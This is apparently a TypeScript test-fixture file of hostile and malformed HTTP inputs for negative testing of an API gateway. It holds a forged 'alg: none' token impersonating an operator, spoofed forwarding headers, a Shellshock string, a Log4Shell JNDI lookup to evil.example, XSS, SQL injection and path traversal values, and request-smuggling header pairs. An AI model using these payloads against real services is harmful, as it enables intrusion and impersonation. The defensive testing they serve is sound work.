/** The body of an unsecured token of another caller, for programs that trust headers. */
const forged = [
  { alg: 'none' },
  { iss: 'corridor-gateway', exp: 4e9, caller: { client: { id: 'operator' } } },
]
  .map((part) => Buffer.from(JSON.stringify(part)).toString('base64url'))
  .join('.');

/** Headers without an effect. */
export const idleHeaders: readonly string[] = [
  `X-Corridor-Caller: ${forged}.`,
  'X-Corridor-Caller: {"client":{"id":"operator"},"permissions":["*"]}',
  'X-Client: cli_1',
  'X-Client-Id: cli_1',
  'X-User: operator',
  'X-Environment: PRODUCTION',
  'X-Permissions: *',
  'X-Forwarded-For: 127.0.0.1, 10.0.0.1',
  'X-Forwarded-Host: evil.example',
  'X-Forwarded-Prefix: /operator/v1',
  'Forwarded: for="[::1]";host=evil.example',
  'X-Real-IP: 127.0.0.1',
  'X-Original-URL: /operator/v1/clients',
  'X-Rewrite-URL: /operator/v1/clients',
  'X-HTTP-Method-Override: DELETE',
  'X-Method-Override: GET',
  'Host: evil.example',
  'Host: [::::]:99999999',
  'X-Request-Id: <script>alert(1)</script>',
  `X-Request-Id: ${'a'.repeat(4_000)}`,
  'traceparent: 00-x',
  `traceparent: ${'0'.repeat(3_000)}`,
  'traceparent: ff-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01',
  `tracestate: ${'a=b,'.repeat(1_000)}`,
  'baggage: \xff\xfe',
  'Accept: */*;q=99999999999999',
  'Accept: \x80\x81',
  'Accept: application/xml',
  'Accept-Encoding: gzip;q=NaN, br',
  'Accept-Language: ../../etc/passwd',
  'Accept-Charset: utf-7',
  'Cookie: session=admin; __proto__=1',
  'Origin: null',
  'Referer: javascript:alert(1)',
  'User-Agent: () { :; }; /bin/sh',
  'User-Agent: ${jndi:ldap://evil.example/a}',
  'Range: bytes=0-1',
  'If-None-Match: *',
  'If-Match: "x"',
  'Expect: 100-continue',
  'Upgrade: h2c',
  'TE: trailers',
  'Prefer: respond-async',
  '__proto__: x',
  'constructor: x',
  'Content-Language: x',
];

/** Invalid idempotency keys, as header lines. */
export const brokenKeys: readonly (readonly string[])[] = [
  [],
  ['X-Idempotency-Key:'],
  ['X-Idempotency-Key:    '],
  [`X-Idempotency-Key: ${'k'.repeat(256)}`],
  [`X-Idempotency-Key: ${'k'.repeat(10_000)}`],
  ['X-Idempotency-Key: \xe9'],
  ['X-Idempotency-Key: a\tb'],
  ['X-Idempotency-Key: \xf0\x9f\x98\x80'],
  ['X-Idempotency-Key: one', 'Idempotency-Key: two'],
  ['Idempotency-Key: \x80'],
];

/** Unusual but valid idempotency keys. */
export const strangeKeys: readonly string[] = [
  '__proto__',
  'constructor',
  "' OR 1=1 --",
  '"; DROP TABLE idempotency; --',
  '../../etc/passwd',
  '%00%ff',
  '${jndi:ldap://x}',
  '~',
  '0',
  'null',
  'k'.repeat(255),
];

/** Invalid credentials, derived from the header line of a valid one. */
export const brokenCredentials = (line: string): readonly (readonly string[])[] => {
  const [name = '', secret = ''] = line.split(': ');
  return [
    [],
    [`${name}:`],
    [`${name}: ${secret}x`],
    [`${name}: ${secret.slice(0, -1)}`],
    [`${name}: ${secret.toUpperCase()}`],
    [line, line],
    [`${name}: ' OR 1=1 --`],
    [`${name}: __proto__`],
    [`${name}: \x80\xff`],
    [`${name}: ${'k'.repeat(10_000)}`],
    ['Authorization: Bearer'],
    ['Authorization: Bearer a.b.c'],
    [`Authorization: Bearer ${forged}.`],
    [`Authorization: Bearer ${secret}`],
    ['Authorization: Basic Og=='],
    ['Authorization: \x80'],
    [`X-Corridor-Caller: ${forged}.`],
  ];
};

/** Not JSON, whatever the body is. */
export const otherContentTypes: readonly string[] = [
  'text/plain',
  'text/html',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/vnd.api+json',
  'application/jsonx',
  'application/json5',
  'application/octet-stream',
  'json',
  '/',
  '*/*',
  '__proto__',
  'x'.repeat(5_000),
  '\xff\xfe',
];

/** Requests with an ambiguous end or invalid headers (request smuggling). */
export const smuggledHeaders: readonly (readonly string[])[] = [
  ['Transfer-Encoding: chunked', 'Content-Length: 5'],
  ['Transfer-Encoding: chunked, identity', 'Content-Length: 5'],
  ['Transfer-Encoding: xchunked'],
  ['Content-Length: 5', 'Content-Length: 6'],
  ['Content-Length: -1'],
  ['Content-Length: 0x10'],
  ['Content-Length: 99999999999999999999'],
  ['Content-Length: 1e3'],
  ['Content Length: 5'],
  [' X-Folded: a'],
  ['X-NUL: a\0b'],
  [`X-Large: ${'a'.repeat(40_000)}`],
  Array.from({ length: 3_000 }, (_, i) => `X-${i}: y`),
];

export const otherMethods: readonly string[] = [
  'DELETE',
  'PATCH',
  'OPTIONS',
  'TRACE',
  'CONNECT',
  'PROPFIND',
  'QUERY',
  'MKCOL',
  'M-SEARCH',
  'FOO',
  'post',
  'G\xcbT',
  '',
];
